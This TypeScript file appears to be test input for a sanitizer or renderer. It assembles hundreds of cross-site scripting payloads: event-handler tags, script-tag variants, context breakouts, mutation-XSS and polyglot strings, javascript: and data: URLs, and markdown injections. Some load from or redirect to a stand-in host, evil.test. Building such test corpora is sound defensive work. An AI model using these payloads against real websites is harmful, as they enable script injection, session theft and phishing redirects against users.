/** The parts of public lists of cross-site scripting payloads, put together again. */

/** Each of these says that it ran: the page under attack listens to all of them. */
const codes = ["alert(1)", "prompt(1)", "confirm(1)", "ran=1", "top['al'+'ert'](1)"];
const code = (at: number) => codes[at % codes.length] ?? "ran=1";
const evil = "https://evil.test";

// biome-ignore format: a table
const selfFiring: [tag: string, handler: string][] = [
  ["img src=x", "onerror"], ["img src=/ ", "onerror"], ["image src=x", "onerror"],
  ["video src=x", "onerror"], ["video><source", "onerror"], ["audio src=x", "onerror"],
  ["audio src=/healthz", "onloadstart"], ["svg", "onload"], ["svg><g", "onload"],
  ["svg><animate attributeName=x dur=1s", "onbegin"], ["svg><set attributeName=x", "onbegin"],
  ["svg><image href=x", "onerror"], ["body", "onload"], ["body", "onpageshow"],
  ["body", "onfocus"], ["body", "onhashchange"], ["body", "onresize"], ["iframe", "onload"],
  ["iframe src=about:blank", "onload"], ["object data=x", "onerror"], ["embed src=x", "onload"],
  ["input autofocus", "onfocus"], ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"],
  ["keygen autofocus", "onfocus"], ["a autofocus tabindex=0", "onfocus"],
  ["div contenteditable autofocus", "onfocus"], ["details open", "ontoggle"],
  ["div popover=auto id=p", "onbeforetoggle"], ["marquee", "onstart"], ["marquee loop=1", "onfinish"],
  ["style", "onload"], ["link rel=stylesheet href=/assets/x.css", "onerror"],
  ["script src=x", "onerror"], ["isindex type=image src=1", "onerror"],
  ["frameset", "onload"], ["table background=x", "onerror"], ["math><mi", "onload"],
  ["x style='animation:rec 1s'", "onanimationstart"], ["x style=transition:1s id=t", "ontransitionend"],
  ["xss id=x tabindex=1", "onfocus"], ["meter value=1", "onmouseover"], ["form", "onsubmit"],
  ["dialog open", "onclose"], ["track src=x", "onerror"], ["bgsound src=x", "onload"],
];

// biome-ignore format: a table
const spellings: ((tag: string, handler: string, run: string) => string)[] = [
  (tag, handler, run) => `<${tag} ${handler}=${run}>`,
  (tag, handler, run) => `<${tag.toUpperCase()} ${handler.toUpperCase()}="${run}">`,
  (tag, handler, run) => `"><${tag}/${handler}='${run}'//`,
  (tag, handler, run) => `'><${tag}\t${handler} = ${run} x`,
];

const handlers = selfFiring.flatMap(([tag, handler], at) => [
  spellings[0]?.(tag, handler, code(at)) ?? "",
  spellings[1 + (at % 3)]?.(tag, handler, code(at + 1)) ?? "",
]);

const scripts = [
  "<script>alert(1)</script>",
  "<ScRiPt>prompt(1)</sCrIpT>",
  "<script/x>ran=1</script>",
  "<script\n>ran=1</script\n>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)",
  "<script type=module>ran=1</script>",
  "<script async src=data:text/javascript,ran=1></script>",
  `<script src=${evil}/x.js></script>`,
  "<script src=//evil.test/x.js>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,ran=1 />",
  "<math><script>alert(1)</script>",
  "<noscript><p title='</noscript><script>alert(1)</script>'>",
  "<template><script>alert(1)</script></template>",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[><script>alert(1)</script>]]>",
  "<?xml ?><script>alert(1)</script>",
  "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "＜script＞alert(1)＜/script＞",
  "<script>alert`1`</script>",
  "<script\u00a0>alert(1)</script>",
];

/** Out of the places that a page puts texts into: JSON in a script, a title, an attribute, a comment. */
const breakouts = [
  "</script><script>alert(1)</script>",
  "</script ><svg onload=alert(1)>",
  '"}</script><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '"-alert(1)-"',
  "\\'-alert(1)//",
  '\\"-alert(1)//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker writes it
  "`${alert(1)}`",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker writes it
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "{alert(1)}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</noscript><img src=x onerror=alert(1)>",
  "</template><img src=x onerror=alert(1)>",
  "--><img src=x onerror=alert(1)>",
  "]]><script>alert(1)</script>",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" style="animation:rec 1s" onanimationstart="alert(1)',
  '"><base href="https://evil.test/">',
  '"><meta http-equiv=refresh content="0;url=https://evil.test/">',
  '"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "\u2028alert(1)\u2029",
  '{"__proto__":{"onload":"alert(1)"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert()//>",
];

/** Elements that load something or lead elsewhere without a script. */
const elements = [
  `<iframe src=${evil}></iframe>`,
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
  "<embed src=javascript:alert(1)>",
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<link rel=prefetch href=${evil}/x>`,
  `<style>@import '${evil}/x.css';</style>`,
  `<style>body{background:url(${evil}/x)}</style>`,
  `<div style="background:url(${evil}/x)">x</div>`,
  "<div style=width:expression(alert(1))>x</div>",
  `<img src=${evil}/x.png>`,
  `<img srcset="${evil}/x.png 1x">`,
  `<video poster=${evil}/x.png></video>`,
  `<picture><source srcset=${evil}/x.png><img></picture>`,
  `<base href=${evil}/>`,
  `<form action=${evil}><button>x</button></form>`,
  "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
  "<isindex action=javascript:alert(1) type=submit>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=alert(1) /></svg>#x' />",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<a href=javascript:alert(1)>x</a>",
  "<area href=javascript:alert(1) shape=default>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<img name=getElementById><img id=location>",
  "<portal src=https://evil.test>",
];

// biome-ignore format: a table
const addresses = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript:alert(1)", " javascript:alert(1)",
  "\u0001javascript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
  "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)",
  "javascript&#x3A;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
  "javascript://evil.test/%0aalert(1)", "javascript:%61lert(1)", "javascript%3Aalert(1)",
  "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg/onload=alert(1)>", "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "blob:https://evil.test/x",
  "file:///etc/passwd", "filesystem:https://evil.test/x", "about:blank", "ms-word:ofe|u|x",
  "tel:1", "//evil.test/x", "/\\evil.test/x", "\\\\evil.test\\x",
];

const forms: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![x](${address})`,
  (address) => `[x][r]\n\n[r]: ${address} "y"`,
];

const markdown = [
  '[x](https://a.test "onmouseover=alert(1)")',
  '[x](https://a.test/"onmouseover="alert(1))',
  "[x](https://a.test'onmouseover='alert(1))",
  '![x"onerror="alert(1)](x)',
  '![x](x"onerror="alert(1))',
  "![x](x 'x\"onerror=\"alert(1)')",
  "[![x](x)](javascript:alert(1))",
  "[<img src=x onerror=alert(1)>](/blog)",
  "[x](javascript:alert(1)",
  "[a](javascript:alert(1)//\\)b)",
  "[x]: javascript:alert(1)\n\n[x]",
  "www.a.test/<script>alert(1)</script>",
  'https://a.test/"onmouseover=alert(1)//',
  'a@a.test"onmouseover=alert(1)',
  "```js onload=alert(1)\nalert(1)\n```",
  "```<script>alert(1)</script>\nx\n```",
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "- <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |",
  "- [x] <svg onload=alert(1)>",
  "~~<img src=x onerror=alert(1)>~~",
  "# <img src=x onerror=alert(1)>",
  'x[^"onload="alert(1)]\n\n[^"onload="alert(1)]: <img src=x onerror=alert(1)>',
  "\\<script>alert(1)\\</script>",
  "<scr\\ipt>alert(1)</script>",
  "**<b onmouseover=alert(1)>x</b>**",
  "<div>\n\n[x](javascript:alert(1))\n\n</div>",
  "<a href='javascript:alert(1)'>[x](/blog)</a>",
];

const links = addresses.flatMap((address, at) => [
  forms[0]?.(address) ?? "",
  forms[1 + (at % (forms.length - 1))]?.(address) ?? "",
]);

/** For fields that are shown as markdown or as text. */
export const markup: string[] = [
  ...new Set([...handlers, ...scripts, ...breakouts, ...elements, ...markdown, ...links]),
];

/** For fields that hold an address. */
export const hostileAddresses: string[] = [...new Set(addresses)];
